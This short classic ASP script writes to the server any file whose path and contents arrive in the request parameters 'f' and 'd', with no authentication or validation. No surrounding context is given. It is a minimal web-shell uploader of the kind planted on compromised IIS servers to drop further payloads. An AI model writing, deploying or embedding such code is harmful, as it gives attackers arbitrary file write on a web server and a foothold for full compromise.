<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile(Server.MapPath(Request("f")), True)
f.Write Request("d")
f.Close
%>
